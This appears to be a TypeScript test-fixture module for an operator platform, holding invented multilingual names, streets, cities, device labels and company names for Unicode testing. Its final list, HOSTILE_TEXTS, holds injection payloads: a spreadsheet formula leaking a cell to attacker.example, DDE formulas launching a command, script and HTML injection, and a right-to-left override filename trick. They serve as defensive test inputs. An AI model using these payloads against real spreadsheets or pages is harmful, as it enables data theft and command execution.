/** Invented names and places in the scripts an operator meets. `slug` is the Latin form used in addresses at example domains. */

export interface NamePool {
  script: string;
  given: readonly (readonly [name: string, slug: string])[];
  family: readonly (readonly [name: string, slug: string])[];
  street: string;
}

export const NAME_POOLS: readonly [NamePool, ...NamePool[]] = [
  {
    script: 'latin',
    given: [
      ['Ada', 'ada'],
      ['Bruno', 'bruno'],
      ['Clara', 'clara'],
      ['Dylan', 'dylan'],
      ['Edith', 'edith'],
      ['Finn', 'finn'],
      ['Greta', 'greta'],
      ['Hugo', 'hugo'],
      ['Iris', 'iris'],
      ['Jonas', 'jonas'],
      ['Kate', 'kate'],
      ['Liam', 'liam'],
    ],
    family: [
      ['Sample', 'sample'],
      ['Testwood', 'testwood'],
      ['Mockford', 'mockford'],
      ['Placeholder', 'placeholder'],
      ['Dummyham', 'dummyham'],
      ['Specimen', 'specimen'],
      ['Fakenham-Test', 'fakenham-test'],
      ['O’Example', 'oexample'],
    ],
    street: 'Sample Street',
  },
  {
    // Decomposed accents on purpose: the same name in NFC is another string of bytes.
    script: 'latin-combining',
    given: [
      ['Zoe\u0308', 'zoe'],
      ['Jose\u0301', 'jose'],
      ['A\u030ake', 'ake'],
      ['Nguye\u0302\u0303n', 'nguyen'],
    ],
    family: [
      ['Mu\u0308stermann', 'muestermann'],
      ['Exempel\u0323', 'exempel'],
      ['Pro\u0301ba', 'proba'],
    ],
    street: 'Mu\u0308sterstraße',
  },
  {
    script: 'german',
    given: [
      ['Jürgen', 'juergen'],
      ['Käthe', 'kaethe'],
      ['Björn', 'bjoern'],
      ['Franziska', 'franziska'],
    ],
    family: [
      ['Mustermann', 'mustermann'],
      ['Beispiel', 'beispiel'],
      ['Prüfgroß', 'pruefgross'],
    ],
    street: 'Musterstraße',
  },
  {
    script: 'arabic',
    given: [
      ['ليلى', 'layla'],
      ['عمر', 'omar'],
      ['نور', 'nour'],
    ],
    family: [
      ['المثال', 'almithal'],
      ['تجربة', 'tajriba'],
    ],
    street: 'شارع المثال',
  },
  {
    script: 'han',
    given: [
      ['小明', 'xiaoming'],
      ['𠮷美', 'yoshimi'],
      ['丽华', 'lihua'],
    ],
    family: [
      ['例', 'li'],
      ['測', 'ce'],
      ['範本', 'fanben'],
    ],
    street: '示例路',
  },
  {
    script: 'kana',
    given: [
      ['さくら', 'sakura'],
      ['ケンジ', 'kenji'],
      ['ひなた', 'hinata'],
    ],
    family: [
      ['れいだい', 'reidai'],
      ['テスト', 'tesuto'],
    ],
    street: 'ためし町',
  },
  {
    script: 'cyrillic',
    given: [
      ['Юлия', 'yuliya'],
      ['Олексій', 'oleksiy'],
      ['Мила', 'mila'],
    ],
    family: [
      ['Примерова', 'primerova'],
      ['Пробенко', 'probenko'],
    ],
    street: 'Пробная улица',
  },
  {
    script: 'greek',
    given: [
      ['Ελένη', 'eleni'],
      ['Νίκος', 'nikos'],
    ],
    family: [
      ['Δείγμα', 'deigma'],
      ['Δοκιμής', 'dokimis'],
    ],
    street: 'Οδός Δοκιμής',
  },
  {
    script: 'devanagari',
    given: [
      ['अनन्या', 'ananya'],
      ['रोहन', 'rohan'],
    ],
    family: [
      ['उदाहरण', 'udaharan'],
      ['नमूना', 'namuna'],
    ],
    street: 'नमूना मार्ग',
  },
  {
    script: 'hebrew',
    given: [
      ['נועה', 'noa'],
      ['אורי', 'uri'],
    ],
    family: [
      ['דוגמה', 'dugma'],
      ['לדוגמא', 'ledugma'],
    ],
    street: 'רחוב הדוגמה',
  },
];

export const CITIES = {
  GB: ['Sampleton', 'Mockchester', 'Testbury'],
  DE: ['Berlin', 'Musterstadt', 'Beispielhausen'],
  FR: ['Exempleville', 'Essai-sur-Mer'],
  IE: ['Dublin', 'Ballysample'],
  NL: ['Voorbeelddam', 'Proefdrecht'],
  JP: ['例示市', 'Tokyo'],
} as const;

export const SIM_LABELS = [
  'Tracker',
  'Gate sensor',
  'Van 🚐',
  'Weather station ☔️',
  'Beehive 🐝',
  '👩‍👩‍👧 home alarm',
  'Zähler Keller',
  '自動販売機',
  'עגלה',
  'مضخة',
  'Boat',
  'Meter #2',
] as const;

export const COMPANY_NAMES = [
  ['Harbour', 'Meadow', 'Summit', 'Copper', 'Orchard', 'Lantern', 'Quarry', 'Willow'],
  ['Sensors', 'Logistics', 'Metering', 'Vending', 'Fleet', 'Alarms', 'Pumps', 'Lifts'],
] as const;

/** Free text that attacks whoever shows it: spreadsheet formulas, HTML, script. Plain data for every system. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open invoice")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '<script>document.title="owned"</script>',
  '<img src=x onerror="document.title=\'owned\'">',
  '</td></table><a href="javascript:alert(1)">click</a>',
  'line one\r\nline two, with "quotes", commas; and \\ backslashes',
  'right-to-left override \u202Egnp.exe and a null-like \u0001 control',
] as const;
